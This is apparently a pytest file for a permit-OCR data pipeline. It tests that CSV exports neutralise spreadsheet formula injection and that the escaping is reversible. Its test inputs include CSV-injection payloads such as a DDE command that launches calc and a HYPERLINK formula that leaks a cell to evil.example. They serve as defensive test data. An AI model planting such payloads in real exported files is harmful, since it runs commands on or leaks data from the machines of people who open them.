"""What a spreadsheet would run if it opened a file of ours, and what a reader of the file gets back."""

from __future__ import annotations

import csv
import gzip
import io
from collections.abc import Callable
from datetime import date

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from airflow_provider_permitocr.engine.delivery.frame import to_frame
from airflow_provider_permitocr.files.row_format import row_format
from airflow_provider_permitocr.files.spreadsheet import escaped, unescaped
from airflow_provider_permitocr.options.targets.result_file import ResultFile
from airflow_provider_permitocr.permit.columns import COLUMNS, Column, ColumnKind, Record

_FORMULAS = [
    *("=1+1", "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|'!A0"),
    *(
        '=HYPERLINK("http://evil.example/?"&A1)',
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "  =1+1",
        "＝1+1",
        "＋1",
        "－x",
        "＠x",
    ),
    *("'=1+1", "-", "+852 9123 4567", "=", "@"),
]
#: In a place with a decimal comma a semicolon, and in some programs a tab, begins a cell whatever is quoted.
_BEHIND_A_SEPARATOR = ["a;=1+1", 'a";=1+1;"', "a\t@x", "a\r\n=1+1", "; -x"]
_HARMLESS = [
    *("李优图", "08320271", "H12345678", "a=b", "a-b", "C/O ME", "", "'quoted'", "O'Neill", "2026-01-31"),
    *("-5", "+5", "-0.5", "-1,5", "-1e-5", "a; b", "a ;b=c"),
]
_TEXTS = st.text(st.sampled_from("=+-@\t\r\n;' a1,\"＝")) | st.text()
_WEIGHT = Column("weight", ColumnKind.FLOAT, "carried")


def _written(described: ResultFile, *rows: Record) -> bytes:
    stream = io.BytesIO()
    columns = (*COLUMNS, _WEIGHT)
    with row_format(described).writer(stream, columns) as writer:
        writer.write(to_frame(rows, columns))
    return stream.getvalue()


def _cells(content: bytes, separator: str) -> list[str]:
    """Return the cells that a program finds: it heeds quotes at a cell's beginning alone."""
    text = io.StringIO(content.decode(), newline="")
    return [cell for row in csv.reader(text, delimiter=separator) for cell in row]


@pytest.mark.parametrize("text", [*_FORMULAS, *_BEHIND_A_SEPARATOR])
@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_no_cell_of_a_csv_begins_as_a_formula(
    new_row: Callable[..., Record], text: str, separator: str
) -> None:
    row = new_row(text, name=text, english_name=text, error_message=text)
    cells = _cells(_written(ResultFile("/permits.csv"), row), separator)
    assert not [cell for cell in cells if cell.lstrip(" ").startswith(tuple("=+-@\t\r\n＝＋－＠"))]


@pytest.mark.parametrize("text", _HARMLESS)
def test_numbers_dates_and_plain_texts_stay_as_they_are(text: str) -> None:
    assert escaped(text) == text


def test_negative_values_of_number_columns_stay_as_they_are(new_row: Callable[..., Record]) -> None:
    row = new_row("a", weight=-0.5, tries=-3, birthday=date(1901, 2, 3))
    (read,) = csv.DictReader(io.StringIO(_written(ResultFile("/permits.csv"), row).decode(), newline=""))
    assert (read["weight"], read["tries"], read["birthday"]) == ("-0.5", "-3", "1901-02-03")


@given(_TEXTS)
def test_undoing_the_apostrophes_gives_each_text_as_it_was(text: str) -> None:
    assert unescaped(escaped(text)) == text


@pytest.mark.parametrize("text", [*_FORMULAS, *_BEHIND_A_SEPARATOR, *_HARMLESS])
def test_pandas_reads_each_text_as_it_was(new_row: Callable[..., Record], text: str) -> None:
    content = _written(ResultFile("/permits.csv", byte_order_mark=True), new_row("a", name=text))
    read = pd.read_csv(io.BytesIO(content), dtype=str, keep_default_na=False, encoding="utf-8-sig")
    assert [unescaped(each) for each in read["name"]] == [text]


@pytest.mark.parametrize("described", [ResultFile("/p.csv", escape_formulas=False), ResultFile("/p.csv.gz")])
def test_a_csv_that_programs_read_has_texts_as_they_are(
    new_row: Callable[..., Record], described: ResultFile
) -> None:
    content = _written(described, new_row("a", name="=1+1"))
    text = gzip.decompress(content) if described.path.endswith("gz") else content
    assert pd.read_csv(io.BytesIO(text), dtype=str)["name"].to_list() == ["=1+1"]


@pytest.mark.parametrize("has_mark", [False, True])
def test_a_byte_order_mark_is_there_only_if_it_is_asked_for(
    new_row: Callable[..., Record], has_mark: bool
) -> None:
    content = _written(ResultFile("/permits.csv", byte_order_mark=has_mark), new_row("a", name="李优图"))
    assert content.startswith(b"\xef\xbb\xbfimage_key," if has_mark else b"image_key,")
